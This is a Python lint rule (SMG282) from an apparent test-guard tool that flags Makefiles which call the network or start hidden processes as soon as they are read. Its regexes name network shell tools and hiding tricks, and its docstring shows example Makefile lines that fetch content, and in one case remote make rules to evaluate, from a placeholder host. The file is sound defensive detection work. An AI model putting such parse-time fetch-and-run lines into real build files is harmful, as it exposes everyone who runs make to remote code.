"""SMG282: reading a Makefile already reaches out."""

from __future__ import annotations

import re
from collections.abc import Iterable

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, text_rule
from pytest_selfmod_guard.view import Side

_MAKEFILE = re.compile(r"(?:^|/)(?:GNU)?[Mm]akefile(?:\.\w+)?$|\.(?:mk|mak|make)$")
_PARSED = re.compile(
    r"\$\(shell\b(.{0,600})|^\s{0,9}(?:export\s{1,9})?[\w.-]{1,60}\s{0,9}!=\s{0,9}(.{0,600})"
)
_NETWORK = re.compile(
    r"(?i)\b(?:curl|wget|nc|ncat|netcat|socat|scp|sftp|ftp|telnet|ssh|nslookup|dig|rclone|iwr|irm)\b"
    r"|urlopen|urllib|requests\.|httpx\.|/dev/tcp/|\bsocket\b"
)
_HIDES = re.compile(
    r"&\s{0,3}\)|\bnohup\b|\bsetsid\b|\bdisown\b|base64\s{1,3}(?:-d|--decode)|\beval\b"
)
_DRAWS = re.compile(r"(?:^\s{0,9}-?(?:s?include)\b|\$\(eval\b).{0,200}(?:curl|wget|https?://)")


@text_rule(
    "SMG282",
    risk=Risk.HIGH,
    hint="give the variable a constant, or do it in the recipe of a target that somebody calls",
    triggers=(b"shell", b"include", b"sinclude", b"eval", b"curl", b"wget", b"urlopen",
              b"urllib", b"nc", b"ssh", b"scp", b"dig", b"ftp", b"telnet", b"base64", b"nohup"),
)  # fmt: skip
def fetched_by_make(side: Side) -> Iterable[Sighting]:
    """
    A Makefile talks to the network, or starts something unseen, as soon as it is read.

    A variable set by `$(shell ...)` or `!=` is set by every call of make, even
    by `make -n` and the completion of a shell. Where that uses the network, or
    starts what goes on behind, a person is to look; rules that are fetched and
    taken in are not for discussion.

    Flagged: whenever make is called
        === Makefile
        + BUILD := $(shell curl -s https://example.invalid/build)
          all:

    Flagged: with the other assignment
        === Makefile
        + BUILD != wget -qO- https://example.invalid/build
          all:

    Flagged: rules out of the network
        === Makefile
        + $(eval $(shell curl -fsS https://example.invalid/rules.mk))
          all:

    Allowed: in a recipe, and what is on the machine
        === Makefile
        + BUILD := $(shell git describe --tags)
        + data.json:
        + 	curl -fsSLo data.json https://example.invalid/data.json
    """
    if not _MAKEFILE.search(side.path):
        return
    for number, line in enumerate(side.lines, 1):
        said = line[:2000]
        if said.lstrip().startswith("#") or said.startswith("\t"):
            continue
        found = _PARSED.search(said)
        inner = (found[1] or found[2] or "") if found else ""
        is_drawn = _DRAWS.search(said) is not None
        if is_drawn or _NETWORK.search(inner) or _HIDES.search(inner):
            what = "reading this file already runs it, and it reaches out or hides"
            settled = "" if is_drawn else "review"
            code = " ".join(said.split())[:400]
            risk = Risk.MEDIUM if side.zone == paths.TEST else Risk.HIGH
            yield Sighting(number, what, code, risk=risk, settled_by=settled)
